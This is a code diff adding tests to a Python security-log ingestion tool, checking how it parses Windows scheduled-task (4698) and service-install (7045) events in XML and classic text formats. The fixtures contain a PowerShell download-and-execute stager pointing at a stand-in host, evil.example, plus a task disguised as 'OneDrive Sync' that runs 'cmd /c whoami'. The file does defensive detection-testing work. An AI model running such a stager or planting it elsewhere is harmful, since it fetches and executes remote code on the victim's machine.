@@ -11,12 +11,17 @@ records of the OTRF Security-Datasets.
 from __future__ import annotations
 
 import base64
+import html
 from typing import Any
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from graphsiem.store.embedded import EmbeddedStore
+from ingest.journal import Journal
+from ingest.parsers.base import ParseContext
+from ingest.parsers.windows_kv import parse_text
 from ingest.parsers.windows_persistence import (
     SERVICE_KIND,
     TASK_CONTENT_CHARS,
@@ -27,6 +32,7 @@ from ingest.parsers.windows_persistence import (
     parse_task_content,
     put_task,
 )
+from ingest.pipeline import ingest_paths
 from tests.ingest.parsers.test_windows_variants import _winlogbeat, ingest_into
 
 STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
@@ -253,3 +259,48 @@ def test_any_task_content_gives_fields_or_a_reason_never_an_exception(content: o
     lines = fields.get("task.command_lines", [])
     assert all(isinstance(line, str) for line in lines)
     assert not ("task.content_error" in fields and lines)
+
+
+# -- the same events as Windows event XML and as classic text (Splunk WinEventLog) ----------------
+
+
+def test_4698_as_windows_event_xml_through_the_pipeline(tmp_path) -> None:
+    """``wevtutil``/forwarded XML: TaskContent is escaped XML inside ``<Data>``, read back as the task XML."""
+    data = "".join(f"<Data Name='{key}'>{html.escape(value)}</Data>" for key, value in TASK_4698.items())
+    path = tmp_path / "events.xml"
+    path.write_text("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+                    "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4698</EventID>"
+                    "<TimeCreated SystemTime='2024-03-05T10:14:02.1234567Z'/><EventRecordID>7</EventRecordID>"
+                    "<Channel>Security</Channel><Computer>WS-0042.corp.example.com</Computer></System>"
+                    f"<EventData>{data}</EventData></Event>", encoding="utf-8")
+    with EmbeddedStore(tmp_path / "graph") as store, Journal(tmp_path / "journal.sqlite") as journal:
+        report = ingest_paths([path], store=store, journal=journal, progress=False)
+        [event] = [item.event for item in journal.iter_events()]
+        assert report.total.accepted == 1
+        assert event.kind == TASK_CREATED_KIND and event.fields["task.command_lines"][0] == TASK_LINE
+        assert len(list(store.iter_relations("INSTALLED"))) == 2
+
+
+_KV_HEADER = ("03/05/2024 10:16:00 AM\nLogName={channel}\nEventCode={code}\nEventType=4\n"
+              "ComputerName=WS-0042.corp.example.com\nSourceName=x\nType=Information\nRecordNumber=12\n"
+              "Keywords=Classic\nTaskCategory=None\nOpCode=Info\n")
+
+
+def test_7045_and_4698_as_classic_text_read_their_labels() -> None:
+    """The text's labels are 4697's names for 7045 ("Service File Name"), and the task XML spans lines."""
+    service = parse_text(_KV_HEADER.format(channel="System", code=7045)
+                         + f"Message=A service was installed in the system.\n\nService Name:  wvbnmkqa\n"
+                         f"Service File Name:  {SERVICE_COMMAND}\nService Type:  user mode service\n"
+                         "Service Start Type:  demand start\nService Account:  LocalSystem", ParseContext(origin="t"))
+    assert service.kind == SERVICE_KIND
+    assert service.fields["process.command_line"] == SERVICE_LINE
+    assert service.fields["user.name"] == "nt authority\\system"
+    assert service.fields["service.start_type"] == "demand start"
+    task = parse_text(_KV_HEADER.format(channel="Security", code=4698)
+                      + "Message=A scheduled task was created.\n\nSubject:\n\tAccount Name:\t\tadm-jdoe\n"
+                      "\tAccount Domain:\t\tCORP\n\nTask Information:\n\tTask Name: \t\t\\OneDrive Sync\n"
+                      "\tTask Content: \t\t" + TASK_XML.replace("\n", "\n\t"), ParseContext(origin="t"))
+    assert task.kind == TASK_CREATED_KIND
+    assert task.fields["task.name"] == "\\OneDrive Sync"
+    assert task.fields["task.command_lines"] == [TASK_LINE, f"{CMD} /c whoami"]
+    assert task.fields["subject.user.name"] == "corp\\adm-jdoe"
